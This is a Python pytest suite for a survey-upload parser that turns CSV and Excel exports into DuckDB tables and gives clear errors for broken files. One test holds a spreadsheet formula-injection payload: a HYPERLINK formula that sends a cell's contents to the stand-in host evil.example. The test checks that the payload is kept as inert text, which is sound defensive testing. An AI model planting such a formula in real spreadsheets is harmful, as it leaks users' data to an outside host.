"""Every bad file gets a clear Problem, or is recovered with a warning, and never an exception."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import duckdb
import pytest

from chatr.ingest import KINDS, parse_upload

ROOT = Path(__file__).resolve().parents[2]
BAD = ROOT / "tests" / "fixtures" / "bad"
GOOD_CSV = ROOT / "tests" / "fixtures" / "google_forms" / "System baseline survey.csv"
SCORE_HEADER = (
    "To what extent is ACEs, trauma-informed care, or resilience used as part of your practice?"
)

# (file, words the single blocking error must contain)
REFUSED = [
    ("empty.csv", "empty"),
    ("header_only.csv", "no responses"),
    ("binary_renamed.csv", "not a spreadsheet"),
    ("truncated.xlsx", "damaged or incomplete"),
]


def _parse(data: bytes, name: str, kind: str = "baseline", **kwargs):
    con = duckdb.connect()
    return parse_upload(con, data, name, kind, **kwargs), con


@pytest.mark.parametrize(("name", "words"), REFUSED)
@pytest.mark.parametrize("kind", KINDS)
def test_refused_files_get_one_clear_error(name, words, kind):
    parsed, _ = _parse((BAD / name).read_bytes(), name, kind)
    assert not parsed.ok
    assert len(parsed.errors) == 1
    assert words in parsed.errors[0].message
    assert "Traceback" not in parsed.errors[0].message
    assert parsed.staged == {}


def test_scale_out_of_range_names_row_column_and_value():
    parsed, _ = _parse((BAD / "scale_out_of_range.csv").read_bytes(), "scale_out_of_range.csv")
    assert not parsed.ok
    located = {(p.row, p.column, p.value) for p in parsed.errors}
    # Rows as the user sees them in a spreadsheet: the header is row 1.
    assert located == {(3, SCORE_HEADER, "11"), (6, SCORE_HEADER, "eight")}
    assert all("0 to 10" in p.message for p in parsed.errors)


def test_latin1_is_recovered_with_a_warning():
    parsed, con = _parse((BAD / "latin1_pound.csv").read_bytes(), "latin1_pound.csv")
    assert parsed.ok, parsed.errors
    assert any("Windows-1252" in w.message for w in parsed.warnings)
    teams = [r[0] for r in con.execute("select team from staged_baseline").fetchall()]
    names = [r[0] for r in con.execute("select name from staged_baseline").fetchall()]
    assert "Family support - £25 voucher scheme" in teams
    assert "Renée O'Brien" in names


def test_semicolon_delimited_is_read_with_a_warning():
    data = (BAD / "semicolon_delimited.csv").read_bytes()
    parsed, _ = _parse(data, "semicolon_delimited.csv")
    assert parsed.tool == "microsoft_forms_csv"
    assert any("semicolons" in w.message for w in parsed.warnings)
    # The columns split correctly; this export simply lacks two baseline questions.
    assert parsed.column_map["life_stages"] == "What life stage(s) do you work in?"
    assert parsed.column_map["practice_use_score"] == SCORE_HEADER
    assert set(parsed.unmapped) == {"organisation", "interest"}


def test_semicolon_delimited_stages_once_columns_are_chosen():
    data = (BAD / "semicolon_delimited.csv").read_bytes()
    overrides = {"organisation": "Name", "interest": "ID"}  # any columns, to get past mapping
    parsed, con = _parse(data, "semicolon_delimited.csv", column_overrides=overrides)
    assert parsed.n_rows_staged == 8
    stages = con.execute("select life_stages from staged_baseline order by source_row").fetchall()
    assert stages[0][0] == ["Perinatal", "5-11"]


def test_formula_injection_cells_are_kept_as_text():
    parsed, con = _parse((BAD / "formula_injection.csv").read_bytes(), "formula_injection.csv")
    assert parsed.ok, parsed.errors
    names = {r[0] for r in con.execute("select name from staged_baseline").fetchall()}
    teams = {r[0] for r in con.execute("select team from staged_baseline").fetchall()}
    assert '=HYPERLINK("https://evil.example/x?d="&B2,"Click for details")' in names
    assert {"+SUM(1,2)", "-2+3", "=1+1"} <= teams


def test_workbook_named_csv_is_read_as_a_workbook():
    parsed, _ = _parse((BAD / "xlsx_renamed.csv").read_bytes(), "xlsx_renamed.csv")
    assert parsed.ok and parsed.tool == "microsoft_forms"
    assert any("Excel workbook" in w.message for w in parsed.warnings)


def test_file_over_the_size_limit_is_refused():
    data = GOOD_CSV.read_bytes()
    parsed, _ = _parse(data, "big.csv", max_bytes=1000)
    assert not parsed.ok and "limit" in parsed.errors[0].message


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\x00\x01\x02\x03" * 100, "not a spreadsheet"),
        (b"%PDF-1.7\n...", "PDF"),
        (b"   \r\n\r\n", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"PK\x03\x04 not really a zip", "damaged"),
    ],
)
def test_odd_bytes_are_refused_clearly(data, words):
    parsed, _ = _parse(data, "upload.csv")
    assert not parsed.ok
    assert words in parsed.errors[0].message


def test_zip_with_several_files_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.csv", "x,y\n1,2\n")
        archive.writestr("b.csv", "x,y\n1,2\n")
    parsed, _ = _parse(buffer.getvalue(), "two.zip")
    assert not parsed.ok and "one CSV" in parsed.errors[0].message


def test_wrong_kind_of_file_for_cohorts_is_refused():
    parsed, _ = _parse(GOOD_CSV.read_bytes(), GOOD_CSV.name, "cohorts")
    assert not parsed.ok
    assert "template" in parsed.errors[0].message


def test_unknown_kind_is_a_programmer_error():
    with pytest.raises(ValueError, match="unknown upload kind"):
        _parse(GOOD_CSV.read_bytes(), GOOD_CSV.name, "baseline_typo")


def test_a_ragged_csv_is_padded_not_refused():
    text = GOOD_CSV.read_text(encoding="utf-8").splitlines()
    # Drop the last field of one row, as Excel does when trailing cells are empty.
    text[3] = text[3].rsplit(",", 1)[0]
    parsed, con = _parse("\r\n".join(text).encode(), "ragged.csv")
    assert parsed.ok, parsed.errors
    assert con.execute("select interest from staged_baseline where source_row = 4").fetchall() == [
        (None,)
    ]


def test_staged_tables_are_cleared_by_a_failed_parse():
    con = duckdb.connect()
    assert parse_upload(con, GOOD_CSV.read_bytes(), GOOD_CSV.name, "baseline").ok
    parse_upload(con, b"", "empty.csv", "baseline")
    tables = {r[0] for r in con.execute("select table_name from duckdb_tables()").fetchall()}
    assert not any(t.startswith(("staged_", "ingest_")) for t in tables)
